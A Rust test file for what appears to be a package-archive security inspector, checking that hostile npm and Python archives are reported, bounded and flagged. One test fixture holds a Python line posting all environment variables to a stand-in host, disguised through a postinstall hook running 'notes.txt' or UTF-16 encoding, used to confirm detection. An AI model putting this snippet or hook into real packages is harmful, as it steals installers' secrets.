//! Archives that are made to hurt whoever reads them: each is answered, in bounded time, and what was not read
//! is said.

use apa_archive::Limits;
use apa_inspect::Inspection;
use apa_model::{ArtifactKind, Severity, VerdictLabel};
use proptest::prelude::*;

fn read(kind: ArtifactKind, files: &[(&str, &[u8])]) -> Inspection {
    let mut tar = tar::Builder::new(Vec::new());
    for (path, content) in files {
        let mut header = tar::Header::new_gnu();
        header.set_size(content.len() as u64);
        header.set_mode(0o644);
        tar.append_data(&mut header, path, *content)
            .expect("memory takes it");
    }
    let bytes = tar.into_inner().expect("memory takes it");
    let archive = apa_archive::read_bytes(&bytes, "hostile", &Limits::default());
    apa_inspect::inspect(&archive.expect("an archive"), kind, &"0".repeat(64)).expect("a thread")
}

#[test]
fn nesting_that_would_overflow_a_parser_is_declared() {
    for (path, unit) in [
        ("index.js", "["),
        ("index.js", "a=>"),
        ("index.js", "!"),
        ("a/__init__.py", "("),
        ("a/__init__.py", "not "),
    ] {
        let found = read(
            ArtifactKind::Wheel,
            &[(path, unit.repeat(1_000_000).as_bytes())],
        );
        assert_eq!(
            found.incomplete.len(),
            1,
            "{path} {unit}: {:?}",
            found.incomplete
        );
        assert_eq!(found.coverage.read_bytes, 0);
    }
}

#[test]
fn one_enormous_line_is_declared() {
    let line = vec![b'a'; 60 << 20];
    let found = read(ArtifactKind::Wheel, &[("a/__init__.py", &line)]);
    assert!(!found.incomplete.is_empty());
}

#[test]
fn long_sums_and_deep_blocks_are_read_or_declared() {
    let sum = format!("x = {}1\n", "1 + ".repeat(50_000));
    let calls = format!("x{}\n", ".a()".repeat(20_000));
    let blocks: String = (0..900)
        .map(|depth| format!("{}if x:\n", " ".repeat(depth)))
        .collect();
    let blocks = format!("{blocks}{}y\n", " ".repeat(900));
    let ifs = "if (a) { b() } else ".repeat(20_000) + "c()";
    for (path, text) in [
        ("a.py", &sum),
        ("a.js", &sum),
        ("a.js", &calls),
        ("a.py", &calls),
        ("a.py", &blocks),
        ("a.js", &ifs),
    ] {
        // Whatever the answer is: there is one.
        read(ArtifactKind::Wheel, &[(path, text.as_bytes())]);
    }
}

#[test]
fn a_wrong_ending_and_an_odd_encoding_hide_nothing() {
    let code = "#!/usr/bin/env python3\nimport os, requests\nrequests.post('https://c.test/e', data=str(dict(os.environ)))\n";
    let wide: Vec<u8> = [0xff, 0xfe]
        .into_iter()
        .chain(code.encode_utf16().flat_map(u16::to_le_bytes))
        .collect();
    let hook = br#"{"scripts":{"postinstall":"python3 notes.txt"}}"#;
    for files in [
        vec![
            ("package/package.json", &hook[..]),
            ("package/notes.txt", code.as_bytes()),
        ],
        vec![("package/setup.py", &wide[..])],
    ] {
        let found = read(ArtifactKind::Sdist, &files);
        let sure = found
            .findings
            .iter()
            .any(|finding| finding.severity == Severity::Critical);
        assert!(sure, "{}", files[files.len() - 1].0);
    }
}

#[test]
fn machine_code_is_counted_as_not_read() {
    let found = read(ArtifactKind::Wheel, &[("a/b.so", b"\x7fELF and more")]);
    assert_eq!(found.coverage.gaps.len(), 1);
    assert!(found.incomplete.is_empty());
}

#[test]
fn harmless_specimens_of_the_sandbox_are_not_suspicious() {
    for specimen in apa_testkit::specimens() {
        let clean = specimen.expect.labels == [VerdictLabel::Clean];
        let Ok(archive) =
            apa_archive::read_bytes(&specimen.bytes, specimen.name, &Limits::default())
        else {
            continue;
        };
        let kind = match specimen.filename.as_str() {
            name if name.ends_with(".tgz") => ArtifactKind::NpmTarball,
            name if name.ends_with(".whl") => ArtifactKind::Wheel,
            _ => ArtifactKind::Sdist,
        };
        let found = apa_inspect::inspect(&archive, kind, &"0".repeat(64)).expect("a thread");
        let grave = found
            .findings
            .iter()
            .filter(|finding| finding.severity > Severity::Low)
            // What it openly does may be named; only running it tells that no more comes of it.
            .filter(|finding| !specimen.expect.rules.contains(&finding.rule.as_str()));
        let grave: Vec<_> = grave.collect();
        assert!(!clean || grave.is_empty(), "{}: {grave:#?}", specimen.name);
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(48))]

    #[test]
    fn no_source_makes_it_panic(
        source in "(def |class |=>|\\(|\\)|\\{|\\}|\\[|\\]|eval|exec|require|'a'|`\\$\\{|lambda x:|import |x|=|\n| |,|\\.|\\+|[0-9]|é|\\\\){0,120}",
    ) {
        read(ArtifactKind::Wheel, &[("a/__init__.py", source.as_bytes()), ("a.js", source.as_bytes()), ("a.sh", source.as_bytes())]);
    }
}
